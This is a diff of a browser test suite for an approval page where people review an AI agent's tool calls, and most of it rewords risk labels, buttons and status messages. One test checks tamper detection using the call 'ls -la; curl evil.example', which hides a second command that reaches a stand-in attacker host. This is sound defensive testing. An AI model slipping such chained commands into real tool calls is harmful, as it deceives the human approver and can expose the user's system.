@@ -64,7 +64,7 @@ suite('a card on the page', { concurrency: 1 }, () => {
         const state = async (risk: Risk) => (await rowOf(scripted, risk)).state;
 
         await page.locator('.card h2', { hasText: keys['low'].intent }).waitFor();
-        assert.equal(await words(risk), 'Low risk');
+        assert.equal(await words(risk), 'Risk: low');
         await answers(page)
           .getByRole('button', { name: /^Approve/ })
           .click();
@@ -73,11 +73,11 @@ suite('a card on the page', { concurrency: 1 }, () => {
 
         await show('medium');
         await page.locator('.card h2', { hasText: keys['medium'].intent }).waitFor();
-        assert.equal(await words(risk), 'Medium risk');
+        assert.equal(await words(risk), 'Risk: medium');
         await answers(page)
-          .getByRole('button', { name: /^Approve…/ })
+          .getByRole('button', { name: /^Approve/ })
           .click();
-        const yes = answers(page).getByRole('button', { name: /^Yes, do it/ });
+        const yes = answers(page).getByRole('button', { name: /^Yes/ });
         await yes.waitFor();
         assert.equal(await state('medium'), 'pending', 'one tap is none');
         await yes.click();
@@ -86,7 +86,7 @@ suite('a card on the page', { concurrency: 1 }, () => {
 
         await show('high');
         await page.locator('.card h2', { hasText: keys['high'].intent }).waitFor();
-        assert.equal(await words(risk), 'High risk');
+        assert.equal(await words(risk), 'Risk: high');
         const held = answers(page).locator('.hold');
         await held.hover();
         await page.mouse.down();
@@ -97,12 +97,12 @@ suite('a card on the page', { concurrency: 1 }, () => {
 
         await show('irreversible');
         await page.locator('.card h2', { hasText: keys['irreversible'].intent }).waitFor();
-        assert.equal(await words(risk), 'Cannot be undone');
+        assert.equal(await words(risk), 'Risk: cannot be undone, except for files in the workspace');
         const field = page.getByLabel(/^To approve, type/);
         await hold(answers(page).locator('.hold'), field);
         const { word } = (await rowOf(scripted, 'irreversible')).card;
         await field.fill(`${word}s`);
-        const forGood = page.getByRole('button', { name: /^Approve irreversibly/ });
+        const forGood = page.getByRole('button', { name: /^Approve/ });
         assert.equal(await forGood.isDisabled(), true, 'another word is none');
         await page.keyboard.press('Enter');
         assert.equal(await state('irreversible'), 'pending');
@@ -128,11 +128,11 @@ suite('a card on the page', { concurrency: 1 }, () => {
         await until(page, 'document.activeElement?.textContent === "Undo"');
         await page.keyboard.press('Enter');
         await bar.waitFor({ state: 'detached' });
-        assert.match(await words(page.locator('.undo-done')), /^Taken back: it did not run\. Run “cat/);
+        assert.match(await words(page.locator('.undo-done')), /^Undone\. Not run\. Run “cat/);
         const { state, reason, card } = await rowOf(scripted, 'high');
         assert.deepEqual([state, reason], ['denied', 'taken back']);
         await page.goto(`${scripted.running.url}/#/approvals/${card.key}`);
-        assert.match(await words(page.locator('.answers-over')), /^Taken back in the browser at/);
+        assert.match(await words(page.locator('.answers-over')), /^Undone before it started in the browser at/);
         assert.deepEqual(scripted.agent.tables.rows("SELECT tool FROM tool_calls WHERE outcome = 'done'"), [
           { tool: 'execute_command' },
         ]);
@@ -151,7 +151,7 @@ suite('a card on the page', { concurrency: 1 }, () => {
         assert.equal(code, 0);
         const over = page.locator('.answers-over');
         await over.waitFor();
-        assert.match(await words(over), /^Denied on the command line at \d\d:\d\d:\d\d\. Nothing was run\. Continue$/);
+        assert.match(await words(over), /^Denied on the command line at \d\d:\d\d:\d\d\. Continue$/);
         assert.equal(await page.locator('.hold').count(), 0);
         await page.getByRole('button', { name: 'Continue' }).click();
         await page.getByText('No pending approvals.').waitFor();
@@ -173,7 +173,7 @@ suite('a card on the page', { concurrency: 1 }, () => {
           return route.continue({ postData: JSON.stringify({ ...sent, digest: 'e'.repeat(64) }) });
         });
         await hold(answers(page).locator('.hold'), page.locator('.card-notice'));
-        assert.match(await words(page.locator('.card-notice')), /^What you saw is not what would run now\./);
+        assert.match(await words(page.locator('.card-notice')), /^Not decided\. The call has changed/);
         assert.equal((await rowOf(scripted, 'high')).state, 'pending');
         await page.unroute('**/decision');
         await hold(answers(page).locator('.hold'), page.getByText('No pending approvals.'));
@@ -214,7 +214,7 @@ suite('a card on the page', { concurrency: 1 }, () => {
       await scripted.asks('low', 'low', 'low');
       await visiting(scripted.running, { hash: '#/approvals' }, async visit => {
         const { page } = visit;
-        const card = page.locator('.card', { hasText: '3 similar low-risk calls of web_fetch' });
+        const card = page.locator('.card', { hasText: 'Approve 3 calls of web_fetch? All are low risk.' });
         await card.waitFor();
         assert.equal(await card.locator('.card-batch li').count(), 3);
         await page.getByRole('button', { name: /^Approve all 3/ }).click();
@@ -318,7 +318,7 @@ suite('a card on the page', { concurrency: 1 }, () => {
         await page.goto(`${scripted.running.url}/#/approvals/${was.card.key}`);
         assert.match(
           await words(page.locator('.answers-over')),
-          /^Changed in the browser at .* The original call did not run/,
+          /^Replaced by a changed call in the browser at .* Not run\./,
         );
         assert.deepEqual(
           scripted.agent.tables.rows('SELECT outcome FROM tool_calls ORDER BY ended_at').map(({ outcome }) => outcome),
@@ -334,7 +334,7 @@ suite('a card on the page', { concurrency: 1 }, () => {
       await visiting(scripted.running, { hash: '#/approvals' }, async visit => {
         const { page } = visit;
         await answers(page)
-          .getByRole('button', { name: /^Deny and say why/ })
+          .getByRole('button', { name: /^Deny with a reason/ })
           .click();
         await page.getByLabel(/^Why not/).fill('Ask my sister first.');
         await page.locator('.answers-text button[type=submit]:enabled').click();
@@ -364,7 +364,7 @@ suite('a card that is not what it seems', { concurrency: 1 }, () => {
       await notice.waitFor();
       assert.match(
         await words(notice),
-        /^This request changed after it was shown to you\. Nothing was decided\. Exact call ls -la ls -la; curl evil\.example Fingerprint/,
+        /^Not decided\. The call has changed since this card was shown\. Use the newest card\. Exact call ls -la ls -la; curl evil\.example Fingerprint/,
       );
       assert.deepEqual(agent.asked, []);
       assert.equal(await words(page.locator('.card-exact')), 'ls -la; curl evil.example');
@@ -452,7 +452,7 @@ suite('a card when Straylight dies', { concurrency: 1 }, () => {
           await over.waitFor();
           assert.match(await words(over), /^Approved in the browser at/);
           await page.getByRole('button', { name: 'Continue' }).click();
-          await page.locator('.card .risk-word', { hasText: 'Medium risk' }).waitFor();
+          await page.locator('.card .risk-word', { hasText: 'Risk: medium' }).waitFor();
           await answers(page).getByRole('button', { name: /^Deny/ }).first().click();
           await page.getByText('No pending approvals.').waitFor();
           const settled = () => scripted.agent.tables.rows('SELECT outcome FROM tool_calls');
